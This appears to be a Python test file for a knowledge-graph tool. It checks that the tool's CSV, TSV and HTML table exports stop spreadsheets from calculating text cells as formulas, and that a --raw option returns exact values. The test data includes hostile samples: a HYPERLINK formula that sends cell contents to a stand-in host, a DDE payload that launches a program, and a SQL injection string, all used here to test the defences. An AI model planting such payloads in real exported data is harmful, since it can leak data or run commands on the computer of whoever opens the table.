"""No text cell of an exported table is calculated by a spreadsheet.

Fault: a cell begins with `=`, `+`, `-`, `@`, tab, CR or `＝`, at its start or after a mark at
  which a spreadsheet may be told to split.
Seen: an apostrophe before it, and a note that counts such cells; numbers and JSON are exact, and
  `--raw` writes every cell as it is; exit code 0.
Kept: the machine of whoever opens the table.
"""

import csv
import io
import json
import re

import pyoxigraph as ox
import pytest
from asking import run
from draws import draws
from hostile import FORMULAS, TEXTS, tables
from hypothesis import example, given
from hypothesis import strategies as st

from kg.analysis import listing
from kg.case.folder import find
from kg.sparql import results
from kg.sparql.query import Answer, Term
from kg.store.build import build
from kg.store.graph import open_graph
from kg.store.lens import Lens
from kg.text import formats

STARTS = "=+-@\t\r＝＋－＠"
NUMBER = re.compile(r"-[0-9]+(\.[0-9]+)?")
CELL = st.text('=-;\t\n"a,', max_size=7) | st.text(st.characters(codec="utf-8"), max_size=12)


def dangerous(text, mark):
    """The cells of a table that a spreadsheet would calculate, if it splits at a mark."""
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=mark)
    # Split at another mark, a quote may take in the end of its row.
    cells = (c.lstrip("\r\n") for row in rows for c in row)
    return [c for c in cells if c.startswith(tuple(STARTS)) and not NUMBER.fullmatch(c)]


def answer(rows):
    return Answer(
        "select", ("a", "b"), tuple(tuple(Term("literal", c) for c in row) for row in rows)
    )


@draws(150)
@given(st.lists(st.tuples(CELL, CELL), min_size=1, max_size=4))
def test_no_text_cell_is_calculated_at_whatever_mark_it_is_split(rows):
    text = results.write(answer(rows), "csv", {})
    for mark in ",;\t":
        assert dangerous(text, mark) == [], mark


@given(st.lists(st.tuples(CELL, CELL), min_size=1, max_size=5))
def test_raw_cells_come_back_exactly(rows):
    text = results.write(answer(rows), "csv", {}, guard=formats.Guard(raw=True))
    assert [tuple(r) for r in csv.reader(io.StringIO(text, newline=""))][1:] == rows


@example("a;")
@given(st.text(st.sampled_from(STARTS + 'ab ;\n\\"1'), min_size=1, max_size=8))
def test_tsv_is_exact_and_no_cell_of_it_is_calculated(text):
    iri = Term("uri", "https://example.org/a;=1+1")
    kinds = ({}, {"language": "en"}, {"datatype": "https://example.org/a"})
    terms = (*(Term("literal", text, **kind) for kind in kinds), iri)
    written = results.write(Answer("select", (*"abcd",), (terms,)), "tsv", {})
    (row,) = ox.parse_query_results(written, format=ox.QueryResultsFormat.TSV)
    assert [t.value for t in row] == [text, text, text, iri.value]
    for mark in "\t;":
        cells = [c for line in csv.reader(io.StringIO(written), delimiter=mark) for c in line]
        found = [c for c in cells if c.startswith(tuple(STARTS))]
        # A number that says it is one stays.
        assert not [c for c in found if not re.match(r"[+-]1+\^\^", c)], mark


@pytest.mark.parametrize("number", ["-5", "-0.5", "12", "-122.4194"])
def test_numbers_stay(number):
    typed = Answer(
        "select", ("a",), ((Term("literal", number, "http://www.w3.org/2001/XMLSchema#decimal"),),)
    )
    assert results.write(typed, "csv", {}) == f"a\r\n{number}\r\n"
    guard = formats.Guard()
    assert (guard(number), guard.cells) == (number, 0)


XSD = "http://www.w3.org/2001/XMLSchema#"
NO_NUMBERS = [
    ('=HYPERLINK("http://x.example/?"&A1,"open")', "http://e/note"),
    ("=1+1", XSD + "anyURI"),
    ("@SUM(1+1)", "http://www.w3.org/1999/02/22-rdf-syntax-ns#HTML"),
    ("=1+1", XSD + "integer"),
    ("-1+cmd|' /C calc'!A0", XSD + "decimal"),
    ("+1e5e", XSD + "double"),
    ("-٣", XSD + "integer"),
    ("-0044-03-15", XSD + "date"),
    ("-P1D", XSD + "duration"),
    ("a;=1+1", "http://e/note"),
]
NUMBERS = [("-5", "integer"), ("+5", "int"), ("-1.5E-3", "double"), ("-.5", "decimal")]


@pytest.mark.parametrize(("text", "datatype"), NO_NUMBERS)
def test_a_datatype_makes_no_number_of_a_text(text, datatype):
    one = Answer("select", ("a",), ((Term("literal", text, datatype),),))
    guard = results.Guard()
    written = results.write(one, "csv", {}, guard=guard)
    assert guard.cells == 1
    for mark in ",;\t":
        assert dangerous(written, mark) == []
    written = results.write(one, "tsv", {})
    assert not [c for c in re.split("[\t;\n]", written) if c.strip('"').startswith(tuple(STARTS))]
    (row,) = ox.parse_query_results(written, format=ox.QueryResultsFormat.TSV)
    assert row[0].value == text


@pytest.mark.parametrize(("text", "datatype"), NUMBERS)
def test_a_number_by_its_datatype_and_its_text_stays(text, datatype):
    one = Answer("select", ("a",), ((Term("literal", text, XSD + datatype),),))
    assert results.write(one, "csv", {}) == f"a\r\n{text}\r\n"


@pytest.fixture(scope="module")
def folder(make_case):
    folder = make_case(**tables(TEXTS))
    build(find(folder))
    return folder


SPARQL = "SELECT ?o { ?s kg:gloss ?o }"


@pytest.mark.parametrize("form", ["csv", "tsv"])
def test_listings_are_guarded_and_say_how_many_cells_changed(folder, capsys, form):
    assert run("claims", folder, rows=True, format=form) == 0
    written = capsys.readouterr()
    for mark in ",;\t" if form == "csv" else "\t":
        assert dangerous(written.out, mark) == []
    assert re.match(r"\d+ cells could be read as a formula: .* --raw leaves it out\n", written.err)
    assert run("claims", folder, rows=True, format=form, raw=True) == 0
    written = capsys.readouterr()
    assert "=HYPERLINK" in written.out and "'=HYPERLINK" not in written.out
    assert "may be calculated by a spreadsheet" in written.err


def test_a_query_says_how_many_cells_changed_and_raw_brings_them_back(folder, capsys):
    changed = [*FORMULAS, "'; DROP TABLE name;--"]
    assert {*changed} < {*TEXTS}
    run("query", folder, SPARQL, format="csv")
    assert f"{len(changed)} cells could be read as a formula" in capsys.readouterr().err
    run("query", folder, SPARQL, format="csv", raw=True)
    written = capsys.readouterr().out
    run("query", folder, SPARQL, format="json")
    exact = [b["o"]["value"] for b in json.loads(capsys.readouterr().out)["results"]["bindings"]]
    assert [r[0] for r in csv.reader(io.StringIO(written, newline=""))][1:] == exact
    assert sorted(exact) == sorted(t.strip() for t in TEXTS)


def test_a_listing_in_json_is_exact(folder):
    rows = listing.attestations(open_graph(folder / "out"), Lens())
    found = json.loads(formats.records(rows, (), "json", 80))
    assert sorted(r["gloss"] for r in found if r["gloss"]) == sorted(t.strip() for t in TEXTS)


def test_nothing_is_said_where_nothing_was_changed(built_case, capsys):
    run("query", built_case, "SELECT ?o { ?s kg:code ?o }", format="csv")
    assert capsys.readouterr() == ("o\r\nIRL01\r\n", "")


def test_the_table_of_a_page_is_guarded(folder, opened):
    out = folder / "view.html"
    run("view", folder, out=str(out))
    with opened(f"{out.as_uri()}#tab=table") as (tab, _):
        text = tab.evaluate("kg.csv()").removeprefix("\ufeff")
        assert (
            len(list(csv.reader(io.StringIO(text, newline=""))))
            == tab.evaluate("kg.counts()")["claims"] + 1
        )
    for mark in ",;\t":
        assert dangerous(text, mark) == []
    assert "'=HYPERLINK" in text
